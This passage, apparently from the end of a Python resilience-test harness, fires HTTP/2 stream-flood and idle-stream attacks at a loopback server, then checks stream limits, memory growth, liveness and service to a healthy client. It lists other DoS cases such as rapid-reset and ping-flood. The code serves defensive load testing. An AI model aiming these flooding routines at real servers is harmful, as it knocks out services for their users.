    for phase, streams in (("at_limit", min(count, limit)), ("beyond_limit", max(0, count - limit))):
        for _ in range(streams):
            conn.h2.send_headers(conn.h2.get_next_available_stream_id(), headers)
        conn.pump(deadline=time.monotonic() + 10)
        conn.read_for(1)
        counts[phase] = []
        for _ in range(2):
            counts[phase].append(active_streams(args.target, args.token)[0])
            conn.read_for(0.2)
    first = [c for c in counts["at_limit"] if c is not None]
    verdict.expect(f"the first {limit} streams are admitted (active_streams >= 1000)",
                   first and max(first) >= 1000, f"active_streams {counts['at_limit']}")
    later = [c for c in counts["beyond_limit"] if c is not None]
    refused = answer.rst_codes.get("REFUSED_STREAM", 0)
    verdict.expect(f"with {count} opened, active_streams <= {limit}", later and max(later) <= limit,
                   f"active_streams {counts['beyond_limit']}, REFUSED_STREAM x{refused}, connection closed: {conn.eof}")
    return [conn], {"streams_opened": count, "active_streams": counts, "refused_streams": refused,
                    "connection_closed": conn.eof}


def case_idle_streams_memory(args, answer, verdict):
    """Against a TRAINING server with 84x84x4 uint8 frames (--env synthetic-frames): 300 Act
    streams on one connection that send HEADERS only, never a Step, held 2 s. Expected: all 300
    admitted (GetStats), a healthy client served meanwhile, and VmRSS peak - before < 30 MiB:
    stream memory (~600 KB of unroll storage per stream for 21 frames) is taken at the first
    Step, so silent streams cost only their calls."""
    count = args.count or 300
    conn = Connection(args.target, answer, settled=True)
    headers = request_headers(args.target, token=args.token)
    for _ in range(count):
        conn.h2.send_headers(conn.h2.get_next_available_stream_id(), headers)
    conn.pump(deadline=time.monotonic() + 10)
    conn.read_for(2)
    held, error = active_streams(args.target, args.token)
    verdict.expect(f"all {count} streams admitted", held is not None and held >= count, f"active_streams={held} {error or ''}")
    verdict.healthy_during(args, f"a healthy client is served while {count} silent streams are open")
    rss = rss_kib(args.pid)
    per_stream = None if rss is None or args.rss_before is None else round((rss - args.rss_before) / count, 1)
    verdict.max_growth_mib = 30
    return [conn], {"streams": count, "rss_kib_held": rss, "kib_per_silent_stream": per_stream}


CASES = {
    "te-big-headers": case_te_big_headers,
    "header-64k": case_header_64k,
    "many-headers": case_many_headers,
    "rapid-reset": case_rapid_reset,
    "ping-flood": case_ping_flood,
    "zero-window": case_zero_window,
    "idle-connections": case_idle_connections,
    "idle-timeout": case_idle_timeout,
    "garbage-after-preface": case_garbage_after_preface,
    "truncated-message": case_truncated_message,
    "unauth-big-unary": case_unauth_big_unary,
    "connection-flood": case_connection_flood,
    "many-streams": case_many_streams,
    "idle-streams-memory": case_idle_streams_memory,
}


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--target", required=True, help="HOST:PORT of the server (loopback only)")
    parser.add_argument("--case", required=True, choices=sorted(CASES))
    parser.add_argument("--pid", type=int, help="the server's pid: alive check and VmRSS")
    parser.add_argument("--token-file", help="the server's token, for the healthy client only")
    parser.add_argument("--server-log", help="the server's log (connection-flood: was the listener restart logged?)")
    parser.add_argument("--count", type=int, help="override the case's count (streams, pings, connections, bytes)")
    parser.add_argument("--seconds", type=float, help="override how long a holding case holds")
    parser.add_argument("--rounds", type=int, help="rapid-reset: connections, one after the other (default 2)")
    parser.add_argument("--settle", type=float, default=1.0, help="seconds after the attack before rss_kib_settled")
    args = parser.parse_args()
    if not args.target.startswith(("127.", "localhost:", "[::1]:")):
        parser.error("loopback targets only")
    args.token = open(args.token_file).readline().strip() if args.token_file else None

    healthy(args.target, args.token)  # warm-up: the first exchange's own allocations are not the attack's
    answer, verdict = Answer(), Verdict()
    before = args.rss_before = rss_kib(args.pid)
    started = time.monotonic()
    with PeakSampler(args.pid) as sampler:
        try:
            conns, extra = CASES[args.case](args, answer, verdict)
        except Exception as error:  # an attack that cannot finish is a failed case, with the reason
            conns, extra = [], {}
            verdict.expect("the attack runs to its end", False, repr(error))
        attack_seconds = time.monotonic() - started
        for conn in conns:
            conn.close()
        time.sleep(0.1)
    after = rss_kib(args.pid)
    time.sleep(args.settle)
    settled = rss_kib(args.pid)
    ok, detail = healthy(args.target, args.token)
    alive = server_alive(args.pid) if args.pid else None
    if verdict.max_growth_mib is not None:
        growth = growth_mib(args, sampler.peak)
        verdict.expect(f"VmRSS peak - before < {verdict.max_growth_mib} MiB",
                       growth is not None and growth < verdict.max_growth_mib, f"{growth} MiB")
    verdict.expect("the server is alive", alive is not False, "alive" if alive else "not running" if alive is False else "no --pid")
    verdict.expect("a healthy client is served after the attack", ok, detail)
    passed = all(check["ok"] for check in verdict.checks)
    result = {"case": args.case, "passed": passed, "expected": "; ".join(c["expect"] for c in verdict.checks),
              "checks": verdict.checks, "server_alive": alive, "healthy_served": ok, "healthy_detail": detail,
              "rss_kib_before": before, "rss_kib_peak": sampler.peak, "rss_kib_after": after,
              "rss_kib_settled": settled, "attack_seconds": round(attack_seconds, 2), "answer": answer.as_dict()}
    result.update(extra)
    print(json.dumps(result), flush=True)
    sys.exit(0 if passed else 1)


if __name__ == "__main__":
    main()
